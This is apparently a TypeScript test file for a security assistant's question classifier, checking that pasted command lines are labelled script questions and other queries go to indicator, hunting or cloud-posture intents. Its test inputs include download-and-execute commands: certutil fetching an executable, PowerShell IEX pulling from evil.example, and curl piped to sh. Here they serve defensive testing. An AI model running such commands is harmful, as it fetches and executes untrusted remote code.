/**
 * A pasted command line is a script question, whatever hosts, addresses or names it carries; ordinary
 * questions that mention PowerShell words in passing are not.
 */
import { describe, expect, it } from 'vitest';
import { extractEntities } from '../../../../src/core/grounding/extract-entities.js';
import { classifyIntent } from '../../../../src/core/planner/classify-intent.js';
import { ENCODED_COMMAND_LINE } from '../../../../src/demo/seed/encoded-powershell.js';

const intentOf = (text: string) => classifyIntent(text, extractEntities(text)).intent;

describe('script questions', () => {
  it.each([
    `what does this do? ${ENCODED_COMMAND_LINE}`,
    ENCODED_COMMAND_LINE,
    'is this bad: cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
    "explain IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
    'curl -s https://get.example/install | sh',
    'pwsh -nop -c "Get-Process"',
  ])('"%s" is a script question', (text) => {
    expect(intentOf(text)).toBe('script');
  });

  it.each([
    ['is adele.vance@contoso.com compromised?', 'user-risk'],
    ['check 185.220.101.4', 'indicator'],
    ['show risky users', 'risky-users'],
    ['summarise incident 4211', 'incident'],
  ])('"%s" stays %s', (text, intent) => {
    expect(intentOf(text)).toBe(intent);
  });
});

describe('cloud posture questions', () => {
  it.each([
    'show critical risks for publicly exposed resources',
    'what is our secure score?',
    'which azure recommendations are critical',
    'show attack paths',
    'any internet-facing VMs with critical recommendations?',
  ])('"%s" is a cloud posture question', (text) => {
    expect(intentOf(text)).toBe('cloud-posture');
  });

  it.each([
    ['show risky users', 'risky-users'],
    ['is CVE-2024-3400 exploited?', 'indicator'],
  ])('"%s" stays %s', (text, intent) => {
    expect(intentOf(text)).toBe(intent);
  });
});

describe('indicator questions with less common domains', () => {
  it.each([
    'look up msft-update-cdn.example',
    'is msft-update-cdn.example bad?',
    'check bad.co.rs',
    'check evil.zip',
  ])('"%s" is an indicator question', (text) => {
    expect(intentOf(text)).toBe('indicator');
  });
});

describe('PowerShell named, not pasted', () => {
  it.each([
    'and the powershell, what did it download?',
    'did adele run powershell yesterday?',
    'show incidents with powershell',
  ])('"%s" is not a script question', (text) => {
    expect(intentOf(text)).not.toBe('script');
  });
});

describe('hunting questions', () => {
  it.each([
    'find failed sign-ins by IP this week',
    'hunt for encoded powershell in the last 3 days',
    'kql: SigninLogs | where UserPrincipalName == "adele.vance@contoso.com" | take 5',
    'run KQL: DeviceProcessEvents | take 1',
    'hunt adele.vance@contoso.com sign-ins in sentinel',
    'where did the password spray come from?',
  ])('"%s" is a hunt', (text) => {
    expect(intentOf(text)).toBe('hunt');
  });
});
